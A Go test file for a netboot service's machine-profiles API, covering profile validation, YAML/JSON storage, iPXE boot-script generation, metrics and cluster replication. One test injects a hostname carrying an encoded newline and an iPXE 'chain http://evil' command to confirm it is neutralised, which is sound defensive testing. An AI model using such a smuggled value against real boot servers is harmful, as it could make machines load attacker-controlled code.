package node_test

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const biosProfile = `{"selectors": {"mac": "52:54:00:12:34:56"}, "schematic": "` + emptyID + `",
 "version": "v1.13.0", "platform": "metal", "secureboot": false, "extraKernelArgs": ["console=ttyS0"]}`

func TestMachineProfilesAPI(t *testing.T) {
	n := startReady(t, testConfig(t, t.TempDir(), realUpstream(t)))
	require.Equal(t, emptyID, n.createSchematic(t, "customization: {}\n"))
	jsonHeader := map[string]string{"Content-Type": "application/json"}

	t.Run("refused with the reason", func(t *testing.T) {
		for _, tc := range []struct{ name, body, want string }{
			{"unknown schematic", strings.Replace(biosProfile, emptyID, strings.Repeat("ab", 32), 1),
				"schematic " + strings.Repeat("ab", 32)},
			{"unknown version", strings.Replace(biosProfile, "v1.13.0", "v1.99.0", 1), "v1.99.0"},
			{"unknown platform", strings.Replace(biosProfile, `"metal"`, `"nosuchcloud"`, 1), "nosuchcloud"},
			{"misspelt field", strings.Replace(biosProfile, `"selectors"`, `"selector"`, 1), `unknown field "selector"`},
			{"bad mac", strings.Replace(biosProfile, "52:54:00:12:34:56", "52:54", 1), "selectors.mac"},
			{"empty", "", "empty profile"},
		} {
			resp := n.do(t, "PUT", "/machines/profiles/bios", tc.body, jsonHeader)
			assert.Equal(t, http.StatusBadRequest, resp.StatusCode, tc.name)
			assert.Contains(t, resp.Body, tc.want, tc.name)
		}

		assert.Equal(t, http.StatusBadRequest, n.do(t, "PUT", "/machines/profiles/Bad%20Name", biosProfile,
			jsonHeader).StatusCode)
		assert.Equal(t, "[]\n", n.do(t, "GET", "/machines/profiles", "", nil).Body, "nothing was stored")
	})

	t.Run("written, read back, replaced", func(t *testing.T) {
		resp := n.do(t, "PUT", "/machines/profiles/bios", biosProfile, jsonHeader)
		require.Equal(t, http.StatusCreated, resp.StatusCode, resp.Body)
		assert.Contains(t, resp.Body, `"mac": "52:54:00:12:34:56"`)

		yamlProfile := "selectors:\n  mac: 52-54-00-12-34-56\nschematic: " + emptyID +
			"\nversion: 1.13.0\nextraKernelArgs: [console=ttyS0, edgefactory.test=yaml]\n"
		resp = n.do(t, "PUT", "/machines/profiles/bios", yamlProfile, map[string]string{"Content-Type": "application/yaml"})
		require.Equal(t, http.StatusOK, resp.StatusCode, resp.Body)

		got := n.do(t, "GET", "/machines/profiles/bios", "", map[string]string{"Accept": "application/yaml"})
		require.Equal(t, http.StatusOK, got.StatusCode)
		assert.Contains(t, got.Body, `mac: "52:54:00:12:34:56"`)
		assert.Contains(t, got.Body, "version: v1.13.0")
		assert.Contains(t, got.Body, "platform: metal")
		assert.Contains(t, got.Body, "edgefactory.test=yaml")

		assert.Equal(t, http.StatusNotFound, n.do(t, "GET", "/machines/profiles/nope", "", nil).StatusCode)
	})

	t.Run("one default, no twins", func(t *testing.T) {
		def := `{"selectors": {}, "schematic": "` + emptyID + `", "version": "v1.13.0"}`
		require.Equal(t, http.StatusCreated, n.do(t, "PUT", "/machines/profiles/default", def, jsonHeader).StatusCode)

		resp := n.do(t, "PUT", "/machines/profiles/default2", def, jsonHeader)
		assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
		assert.Contains(t, resp.Body, "profile default is the default already")

		resp = n.do(t, "PUT", "/machines/profiles/twin", biosProfile, jsonHeader)
		assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
		assert.Contains(t, resp.Body, "same selectors as profile bios")
	})

	t.Run("boot.ipxe", func(t *testing.T) {
		first := n.do(t, "GET", "/pxe/boot.ipxe?rack=r1", "", nil)
		require.Equal(t, http.StatusOK, first.StatusCode)
		assert.Contains(t, first.Body, "chain --replace --autofree "+n.base+"/pxe/boot.ipxe?mac=${mac:hexhyp}&uuid=${uuid}")
		assert.Contains(t, first.Body, "&rack=r1\n", "the operator's labels are passed on")

		matched := n.do(t, "GET", "/pxe/boot.ipxe?mac=52-54-00-12-34-56&uuid=&serial=&hostname=&arch=x86_64", "", nil)
		require.Equal(t, http.StatusOK, matched.StatusCode, matched.Body)
		assert.Contains(t, matched.Body, "kernel "+n.base+"/image/"+emptyID+"/v1.13.0/kernel-amd64 ")
		assert.Contains(t, matched.Body, " console=ttyS0 edgefactory.test=yaml\n")
		assert.Contains(t, matched.Body, "initrd "+n.base+"/image/"+emptyID+"/v1.13.0/initramfs-amd64.xz\n")

		require.Equal(t, http.StatusNoContent, n.do(t, "DELETE", "/machines/profiles/default", "", nil).StatusCode)
		assert.Equal(t, http.StatusNotFound, n.do(t, "DELETE", "/machines/profiles/default", "", nil).StatusCode)

		unknown := n.do(t, "GET", "/pxe/boot.ipxe?mac=52:54:00:00:00:99&hostname=x%0Achain%20http://evil&arch=x86_64", "", nil)
		require.Equal(t, http.StatusOK, unknown.StatusCode)
		assert.Contains(t, unknown.Body, "echo no Edge Factory profile matches this machine: mac 52:54:00:00:00:99")
		assert.Contains(t, unknown.Body, "hostname xchainhttp:evil\n", "what a machine reports cannot become a command")
		assert.Contains(t, unknown.Body, "\nsleep 60\nchain --replace --autofree "+n.base+"/pxe/boot.ipxe?")
		assert.NotContains(t, unknown.Body, "kernel ")

		assert.Equal(t, http.StatusBadRequest, n.do(t, "GET", "/pxe/boot.ipxe?mac=zz", "", nil).StatusCode)
		assert.Equal(t, http.StatusBadRequest, n.do(t, "GET", "/pxe/boot.ipxe?mac=52:54:00:00:00:99&arch=mips", "", nil).StatusCode)
	})

	t.Run("seen", func(t *testing.T) {
		seen := n.do(t, "GET", "/machines/seen", "", nil)
		require.Equal(t, http.StatusOK, seen.StatusCode)
		assert.Contains(t, seen.Body, `"mac": "52:54:00:00:00:99"`)
		assert.Contains(t, seen.Body, `"served": "no profile"`)
		assert.Contains(t, seen.Body, `"profile": "bios"`)

		metrics := n.do(t, "GET", "/metrics", "", nil).Body
		assert.True(t, strings.Contains(metrics, `edgefactory_netboot_boots_total{outcome="profile",profile="bios"} 1`),
			"boots by profile counted")
		assert.True(t, strings.Contains(metrics, `edgefactory_netboot_boots_total{outcome="no_profile",profile=""} 1`),
			"boots without a profile counted")
	})
}

// TestMachineProfilesSurvive: a profile written through a follower is on every member, survives the loss of the
// leader, and a member that was down when it changed serves the new one after its restart.
func TestMachineProfilesSurvive(t *testing.T) {
	c := startCluster(t, realUpstream(t), 3)
	jsonHeader := map[string]string{"Content-Type": "application/json"}

	leader := c.steadyLeader(t)
	follower := c.other(t, leader.name)
	require.Equal(t, emptyID, follower.createSchematic(t, "customization: {}\n"))

	resp := follower.do(t, "PUT", "/machines/profiles/bios", biosProfile, jsonHeader)
	require.Equal(t, http.StatusCreated, resp.StatusCode, resp.Body)

	c.kill(leader)
	newLeader := c.steadyLeader(t)
	require.NotEqual(t, leader.name, newLeader.name)

	for _, m := range c.live() {
		assert.Contains(t, m.do(t, "GET", "/machines/profiles/bios", "", nil).Body, "52:54:00:12:34:56", m.name)
	}

	changed := strings.Replace(biosProfile, "console=ttyS0", "edgefactory.test=changed", 1)
	resp = newLeader.do(t, "PUT", "/machines/profiles/bios", changed, jsonHeader)
	require.Equal(t, http.StatusOK, resp.StatusCode, resp.Body)

	back := c.add(t, leader.index)
	require.True(t, waitFor(30*time.Second, func() bool {
		script := back.do(t, "GET", "/pxe/boot.ipxe?mac=52:54:00:12:34:56&arch=x86_64", "", nil)

		return strings.Contains(script.Body, "edgefactory.test=changed")
	}), "the restarted member serves the profile as changed while it was down")
}
